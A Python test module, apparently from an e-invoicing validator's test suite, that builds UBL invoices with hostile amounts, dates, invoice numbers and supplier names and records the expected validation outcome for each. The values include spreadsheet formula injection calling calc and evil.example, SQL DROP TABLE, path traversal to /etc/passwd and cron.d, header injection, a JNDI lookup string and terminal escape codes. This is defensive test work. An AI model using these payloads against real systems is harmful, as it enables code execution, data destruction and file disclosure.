"""Hostile contents of documents that are XML and even UBL: amounts, dates, numbers and names."""

from tests.hostile.documents import NUMBER, SOUND, SUPPLIER, Hostile, swapped

PAYABLE = SOUND.partition(b"<cbc:PayableAmount")[2].partition(b">")[2].partition(b"<")[0]
ISSUED = b"<cbc:IssueDate>2026-01-19<"
CUSTOMER = b">0999000129<"
FULL_WIDTH = {ord(str(digit)): chr(0xFF10 + digit) for digit in range(10)}

NO_DATE = "is not a date in the form 2026-03-31"
NO_NUMBER = "should be a number such as 12.50"

SPEAKING = {
    "a newline": "NL-1\nAccepted: yes\r\n2026-01-01 ERROR forged",
    "RTL override": "RTL-\u202e1234",
    "a formula": '=cmd|"/c calc"!A1',
    "C1 escape sequences": "C1-\u009b2J\u009d8;;http://evil.example\u009cx\u009d8;;\u009c",
    "Slack": "SL-1 <!channel> <@U123> <http://evil.example|pay here> @here",
    "Markdown": "[pay](http://evil.example) ![x](http://evil.example/x.png) | a | <script>x</script>",
    "bare addresses": "see http://evil.example or www.evil.example or a@evil.example",
    "rich markup": "[bold red]RM-1[/] [link=http://evil.example]x[/link] :skull: \\\\\\",
}
"""Numbers that would do something where text is taken for more than text."""


def paying(amount: bytes, number: str) -> bytes:
    """The purchase with this amount to pay."""
    old, new = (b">%s</cbc:PayableAmount>" % each for each in (PAYABLE, amount))
    return swapped(old, new).replace(NUMBER, escaped(number))


def issued(date: bytes, number: str) -> bytes:
    """The purchase with this date of issue."""
    return swapped(ISSUED, b"<cbc:IssueDate>" + date + b"<", number)


def supplied_by(name: str, number: str) -> bytes:
    """The purchase from a supplier of this name."""
    return swapped(SUPPLIER, escaped(name), number)


def escaped(text: str) -> bytes:
    """`text` as XML wants it."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode()


def _amount(name: str, amount: bytes, state: str, code: str | None = None, says: str = "") -> Hostile:
    return Hostile(f"amount: {name}", lambda: paying(amount, f"AMOUNT {name}"), state, code, says)


def _date(name: str, date: bytes, state: str, code: str | None = None, says: str = "") -> Hostile:
    return Hostile(f"date: {name}", lambda: issued(date, f"DATE {name}"), state, code, says)


def _number(name: str, number: str) -> Hostile:
    return Hostile(f"number: {name}", lambda: swapped(NUMBER, escaped(number)), "sent")


def _held(name: str, number: str) -> Hostile:
    says = "remains to pay"
    return Hostile(f"held: {name}", lambda: paying(b"1.00", f"{number} (held)"), "held", "BR-CO-16", says)


def _name(name: str, supplier: str) -> Hostile:
    return Hostile(f"supplier: {name}", lambda: supplied_by(supplier, f"NAME {name}"), "sent")


AMOUNTS = (
    _amount("in CDATA", b"<![CDATA[" + PAYABLE + b"]]>", "sent"),
    _amount("with a comment inside", PAYABLE[:1] + b"<!--0-->" + PAYABLE[1:], "sent"),
    _amount("10^30", b"1" + b"0" * 30, "held", "BR-CO-16", "remains to pay, not"),
    _amount("-0", b"-0", "held", "BR-CO-16", "remains to pay, not"),
    _amount("10^400", b"1" + b"0" * 400, "could_not_check", "WB-CHECK-FAILED", "BR-CO-16"),
    _amount("300 decimals", PAYABLE + b"0" * 300, "could_not_check", "WB-CHECK-FAILED", "BR-CO-16"),
    _amount("100,000 digits", b"9" * 100_000, "could_not_check", "WB-CHECK-FAILED", "BR-CO-16"),
    _amount("NaN", b"NaN", "invalid", "UBL-XSD", NO_NUMBER),
    _amount("INF", b"INF", "invalid", "UBL-XSD", NO_NUMBER),
    _amount("1e5", b"1e5", "invalid", "UBL-XSD", NO_NUMBER),
    _amount("hexadecimal", b"0x1F", "invalid", "UBL-XSD", NO_NUMBER),
    _amount("empty", b"", "invalid", "UBL-XSD", NO_NUMBER),
    _amount("a comma", PAYABLE.replace(b".", b","), "invalid", "UBL-XSD", NO_NUMBER),
    _amount("Arabic digits", "١٢٣".encode(), "invalid", "UBL-XSD", NO_NUMBER),
)

DATES = (
    _date("year 0", b"0000-01-01", "invalid", "UBL-XSD", "should be a date"),
    _date("year 1", b"0001-01-01", "out_of_scope"),
    _date("year 9999", b"9999-12-31", "sent", "WB-BE-DUE", "before the invoice date"),
    _date("year 10000", b"10000-01-01", "sent", "PEPPOL-EN16931-F001", NO_DATE),
    _date("before Christ", b"-0044-03-15", "sent", "PEPPOL-EN16931-F001", NO_DATE),
    _date("30 February", b"2026-02-30", "invalid", "UBL-XSD", "should be a date"),
    _date("with Z", b"2026-01-19Z", "sent", "PEPPOL-EN16931-F001", NO_DATE),
    _date("with a zone", b"2026-01-19+14:00", "sent", "PEPPOL-EN16931-F001", NO_DATE),
    _date("with a time", b"2026-01-19T00:00:00", "invalid", "UBL-XSD", "should be a date"),
)

NUMBERS = (
    *(_number(name, number) for name, number in SPEAKING.items()),
    *(_held(name, number) for name, number in SPEAKING.items()),
    _number("10 kB", "9" * 10_000),
    _number("blank", " \u00a0\u2003\t "),
    _number("zero width", "ZW-\u200b1\u2060\ufeff2"),
    _number("full-width digits", "FW-123".translate(FULL_WIDTH)),
    _number("a formula with +", "+1+1"),
    _number("a formula with -", "-2+3"),
    _number("a formula with @", "@SUM(1+1)"),
    _number("a formula behind a tab", "\t=1+1"),
    _number("SQL", "'; DROP TABLE invoice; --"),
    _number("path traversal", "../../etc/passwd"),
    _number("a Windows path", "..\\..\\CON.xml"),
    _number("the end of a header", 'x.xml"\r\nContent-Type: text/html\r\n\r\n'),
    _number("templates", "{{7*7}} ${jndi:ldap://evil.example/a} %s%n %(x)s {0}"),
    _number("combining characters", "Z" + "\u0335" * 150),
    _number("emoji and private use", "\U0001f4b6\U0001f468\u200d\U0001f469\ue000"),
    _number("a Ref of ours", "Ref WB-0000000000 deadbeef"),
)

NAMES = (
    _name("Cyrillic homoglyphs", "Моlеns Wаtеrlоор NV"),  # noqa: RUF001 - that is what it is about
    _name("path traversal", "../../../etc/cron.d/evil"),
    _name("a formula", '=HYPERLINK("http://evil.example","x")'),
    _name("Slack", "<!everyone> <http://evil.example|Molens>"),
    _name("rich markup", "[/][blink]Molens[/blink]"),
    _name("C1 and bidi", "\u009b31mMolens\u2066\u202e"),
    _name("100 kB", "Molens " * 15_000),
    _name("only invisible", "\u200b\u2060\u00ad"),
    Hostile(
        "customer's number in full-width digits",
        lambda: swapped(CUSTOMER, CUSTOMER.decode().translate(FULL_WIDTH).encode(), "NAME digits"),
        "sent",
        "PEPPOL-COMMON-R043",
        "is not a valid Belgian enterprise number",
    ),
)

CONTENTS = (*AMOUNTS, *DATES, *NUMBERS, *NAMES)
